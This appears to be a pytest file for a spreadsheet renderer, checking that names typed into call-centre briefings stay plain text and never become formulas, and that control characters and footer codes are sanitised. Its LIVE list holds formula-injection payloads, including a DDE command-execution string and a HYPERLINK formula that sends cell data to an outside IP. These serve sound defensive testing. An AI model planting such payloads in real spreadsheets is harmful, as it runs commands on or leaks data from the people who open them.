"""Names come from people and are hostile: they stand in their cells as they read, and nothing runs."""

from __future__ import annotations

import dataclasses
import html
import re
import xml.etree.ElementTree as ET
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from renderers import xlsx
from renderers.words import speak
from renderers.xlsx.cells import CELL_LIMIT, cell_text
from tests.unit.renderers.conftest import SAMPLE
from tests.unit.renderers.xlsx.conftest import opened, parts
from worker.domain.briefing.content import Briefing, Completeness
from worker.domain.rows import Gap, SourceNote

EN = speak("en")
SHEETS = ("Summary", "Queues", "Intervals", "Agents", "About")

LIVE = [
    "=1+1",
    '=HYPERLINK("http://203.0.113.9/?"&A1,"Billing")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "＝1+1",
    "\t=1+1",
    "\r\n=1+1",
]
PLAIN = [
    "#N/A",
    "#REF!",
    "TRUE",
    "1e5",
    "007",
    "2026-10-21",
    "http://example.com",
    "<b>&amp;</b>",
    "שלום",
    "👩‍🚀 crew",
    "'quoted",
]


def name_of(name: str) -> Briefing:
    """The sample with the name everywhere where somebody can type one."""
    queue = dataclasses.replace(SAMPLE.queues[0], name=name)
    agent = dataclasses.replace(SAMPLE.agents[0], name=name, queues=(name, name))
    return dataclasses.replace(
        SAMPLE,
        group_title=name,
        queues=(queue,),
        agents=(agent,),
        completeness=Completeness((Gap("partial", name),), (SourceNote(name, name, 1, name),)),
    )


@pytest.mark.parametrize("name", LIVE)
def test_what_a_spreadsheet_would_run_is_text_and_stays_text_when_it_is_edited(name: str) -> None:
    cell = opened(xlsx.render(name_of(name)))["Queues"]["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (name.strip(), "s", True)


@pytest.mark.parametrize("name", PLAIN)
def test_what_only_looks_like_something_else_reads_as_it_was_typed(name: str) -> None:
    cell = opened(xlsx.render(name_of(name)))["Queues"]["A2"]
    assert (cell.value, cell.data_type) == (name, "s")


@settings(max_examples=40)
@given(st.text(st.characters(exclude_categories=()), max_size=40))
def test_no_name_makes_a_formula_or_breaks_the_file(name: str) -> None:
    for part, content in parts(xlsx.render(name_of(name))).items():
        ET.fromstring(content)  # noqa: S314 – our own file
        assert "<f>" not in content or "/charts/" in part
    assert opened(xlsx.render(name_of(name)))["Agents"]["A2"].data_type == "s"


def test_the_agents_queues_stay_apart(make_briefing: Callable[..., Briefing]) -> None:
    agent = dataclasses.replace(SAMPLE.agents[0], queues=("=A", "B\x00C"))
    assert opened(xlsx.render(make_briefing(agents=(agent,))))["Agents"]["H2"].value == "=A, BC"


def test_control_characters_and_overrides_are_taken_out() -> None:
    assert cell_text("a\x00b\x1bc\u202ed\ud800e\ufffef") == "abcdef"


def test_what_looks_like_an_escape_is_escaped_so_that_it_is_read_as_typed() -> None:
    assert cell_text("_x0041_ and _x_ and _xZZZZ_") == "_x005F_x0041_ and _x_ and _xZZZZ_"


@pytest.mark.parametrize("long", ["x" * 40_000, "😀" * 20_000, "_x0041_" * 6_000])
def test_a_cell_holds_at_most_what_excel_allows_and_no_half_character(long: str) -> None:
    text = cell_text(long)
    assert CELL_LIMIT - 1 <= len(text.encode("utf-16-le")) // 2 <= CELL_LIMIT


def test_a_name_of_500_characters_is_whole_in_the_workbook() -> None:
    name = "Überlänge " * 50
    assert opened(xlsx.render(name_of(name)))["Queues"]["A2"].value == name.strip()


@pytest.mark.parametrize("title", ['A & B &D &"Arial" &8', "x" * 500, "R&D"])
def test_a_groups_title_puts_no_code_into_the_footer(title: str) -> None:
    footers = [
        footer
        for name, content in parts(xlsx.render(name_of(title))).items()
        for footer in re.findall(r"<oddFooter>(.*?)</oddFooter>", content)
    ]
    assert len(footers) == len(SHEETS)
    for footer in footers:
        text = html.unescape(footer)
        assert "&" not in text.removeprefix("&L").removesuffix("&R&P / &N").replace("&&", "")
        assert len(text) <= 255


def test_an_empty_cleaned_name_gets_a_placeholder() -> None:
    assert opened(xlsx.render(name_of("\x00")))["Queues"]["A2"].value == EN.clean("")
